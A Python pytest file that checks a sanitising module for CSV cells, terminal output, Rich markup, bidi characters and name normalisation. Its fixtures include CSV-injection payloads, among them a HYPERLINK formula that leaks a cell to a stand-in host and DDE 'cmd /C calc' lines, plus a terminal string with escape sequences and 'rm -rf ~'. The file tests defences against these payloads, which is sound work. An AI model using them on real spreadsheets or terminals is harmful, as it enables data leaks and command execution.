"""The text rules of every sink (audit/base/safetext.py): formulas neutralised in CSV cells, control
characters and markup made visible on the terminal, values clipped, names compared in one form."""

from __future__ import annotations

import csv
import io

import pytest

from audit.base.safetext import (
    clip,
    for_rich,
    for_terminal,
    has_bidi,
    name_key,
    neutralise_csv_cell,
    neutralise_row,
    strip_bidi,
)

#: Payloads of the OWASP "CSV injection" page's shapes, written for this test.
FORMULAS = [
    '=HYPERLINK("http://x.invalid/?leak="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_start_with_a_quote(cell: str) -> None:
    assert neutralise_csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain", "a=b", "-12.5", "+3e-4", "12", "", "'already"])
def test_text_and_plain_numbers_are_unchanged(cell: str) -> None:
    assert neutralise_csv_cell(cell) == cell


def test_row_keeps_numbers_and_round_trips_through_csv() -> None:
    row = neutralise_row(["=1+1", 2.5, -3, None, "ok"])
    buffer = io.StringIO()
    csv.writer(buffer).writerow(row)
    read = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert read == ["'=1+1", "2.5", "-3", "", "ok"]


def test_terminal_line_shows_controls_as_escapes() -> None:
    hostile = "shot\x1b]8;;http://x.invalid\x07\nrm -rf ~\u202eevil\x9b"
    shown = for_terminal(hostile)
    assert "\n" not in shown
    assert "\x1b" not in shown
    assert "\u202e" not in shown
    assert "\x9b" not in shown
    assert "\x07" not in shown
    assert shown == "shot\\x1b]8;;http://x.invalid\\x07\\nrm -rf ~\\u202eevil\\x9b"


def test_rich_markup_is_escaped() -> None:
    from rich.console import Console

    console = Console(file=io.StringIO(), width=200, color_system=None)
    for text in ("[/]", "[link=http://x.invalid]clic[/link]", "[bold red]x"):
        console.print(for_rich(text))
    printed = console.file.getvalue().splitlines()  # type: ignore[attr-defined]
    assert printed == ["[/]", "[link=http://x.invalid]clic[/link]", "[bold red]x"]


def test_clip_says_how_much_was_cut() -> None:
    assert clip("a" * 10, 4) == "aaaa… (6 more characters)"
    assert clip("short", 10) == "short"


def test_bidi_controls_found_and_stripped() -> None:
    assert has_bidi("Ana\u202eoiraM")
    assert not has_bidi("Ana Maria")
    assert strip_bidi("Ana\u202eoiraM\u2066x\u2069") == "AnaoiraMx"


@pytest.mark.parametrize(
    "other",
    ["Loi\u0308c Martin", "LOÏC MARTIN", "Loïc  Martin ", "Lo\u200bïc Martin", "Ｌｏïｃ Martin",
     "Lo\u00adïc Martin", "Loïc\u202c Martin"],
)  # fmt: skip
def test_names_compare_in_one_form(other: str) -> None:
    assert name_key(other) == name_key("Loïc Martin")


def test_different_names_stay_different() -> None:
    assert name_key("Loïc Martin") != name_key("Loic Martin")
